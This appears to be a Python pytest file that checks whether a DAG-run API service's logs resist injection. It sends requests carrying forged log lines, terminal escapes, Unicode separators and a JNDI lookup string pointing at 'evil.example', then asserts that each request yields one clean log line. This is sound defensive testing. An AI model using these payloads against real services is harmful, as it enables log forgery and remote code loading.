"""What a client sends appears in the log of a real service as one line for each request, and can forge none."""

from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest

from tests.hostile.conftest import Start
from tests.hostile.raw import ask
from tests.service.process import ServiceProcess

FORGED = "2026-01-01T00:00:00.000Z ERROR    forged"
NASTY = [
    f"\r\n{FORGED}",
    f"\n{FORGED}\n",
    f"\x1b[2J\x1b[1;31m{FORGED}\x07\x08",
    f"\u2028{FORGED}\u2029\x85\x0b\x0c",
    f"\u202e{FORGED}\u2066\u200f",
    '" status=200 level="info',
    '{"level": "error"}\\',
    "\ufeff\u00ad\U000e0041",
    "%s %(message)s {0} {record} ${jndi:ldap://evil.example/a}",
]


def requests(nasty: str) -> list[bytes]:
    path = quote(nasty, safe="").encode()
    # With control characters in a header it would be no HTTP.
    plain = re.sub(r"[\x00-\x1f\x7f]", "", nasty).encode()
    body = json.dumps({"dag_id": nasty, "prefix": nasty, nasty: 1}).encode()
    only = json.dumps({"dag_id": nasty}).encode()
    end = b" HTTP/1.1\r\nHost: localhost\r\n"
    post = b"POST /api/v1/dag_runs" + end
    return [
        b"GET /" + path + end + b"\r\n",
        b"GET /api/v1/dag_runs/" + path + end + b"\r\n",
        b"GET /api/v1/batches/" + path + end + b"\r\n",
        b"GET /api/v1/dag_runs?prefix=" + path + b"&" + path + b"=1" + end + b"\r\n",
        b"GET /api/v1/dag_runs?start=" + path + end + b"\r\n",
        b"POST /api/v1/dags/" + path + b"/paused/true" + end + b"\r\n",
        post + b"Content-Length: %d\r\n\r\n" % len(body) + body,
        post + b"Content-Length: %d\r\n\r\n" % len(only) + only,
        b"GET /healthz?" + path + end + b"User-Agent: " + plain + b"\r\nX-Request-ID: " + plain + b"\r\n\r\n",
        b"GET /nowhere" + end + b"Referer: " + plain + b"\r\nX-Forwarded-For: " + plain + b"\r\n\r\n",
    ]


def told(service: ServiceProcess) -> list[str]:
    """What a service that has ended logged of its requests, cut where any reader might: at other ends of lines, too."""
    return [line for line in service.log.splitlines() if "dagrun_api.serving.server" not in line]


@pytest.mark.parametrize("style", ["text", "json"])
async def test_a_request_makes_one_line_whatever_is_in_it(start: Start, style: str) -> None:
    everything = [request for nasty in NASTY for request in requests(nasty)]
    with start("--log-format", style, "--log-level", "debug") as service:
        for request in everything:
            answer = await ask(service.port, request)
            assert answer.status < 500
            assert re.fullmatch(r"[\w.:/+=@-]{1,128}", answer.headers["x-request-id"])
    lines = told(service)
    assert all(line.isascii() or line.isprintable() for line in lines)
    assert not any(line.startswith(FORGED[:20]) for line in lines)
    if style == "json":
        records = [json.loads(line) for line in lines]
        assert {record["level"] for record in records} <= {"info", "debug"}
        assert [record["logger"] for record in records] == ["dagrun_api.access"] * len(everything)
    else:
        line = re.compile(r"\d{4}-\d\d-\d\dT[\d:.]+Z (INFO |DEBUG)    dagrun_api\.access answered method=[A-Z]+ path=")
        assert len(lines) == len(everything)
        assert all(line.match(each) for each in lines)


async def test_a_host_makes_one_printable_line(start: Start) -> None:
    with start("--no-access-log") as service:
        for nasty in (*NASTY, "a" * 8000, "\xff"):
            host = re.sub(r"[\x00-\x1f\x7f]", "", nasty).encode()
            answer = await ask(service.port, b"GET / HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
            assert answer.status == 403
            assert len(answer.body) < 1000
    (line,) = told(service)
    assert line.isprintable()
    assert " WARNING  dagrun_api.web.host Refused a request for the host " in line


async def test_malformed_requests_log_two_lines_that_quote_nothing(start: Start) -> None:
    with start() as service:
        for nasty in NASTY:
            await ask(service.port, b"GET / HTTP/1.1\r\nHost : " + nasty.encode() + b"\r\n\r\n")
    lines = told(service)
    assert len(lines) == 2 * len(NASTY)
    assert all(" Refused malformed HTTP " in line or " method=UNKNOWN path=/ status=400 " in line for line in lines)
    assert "forged" not in "".join(lines)
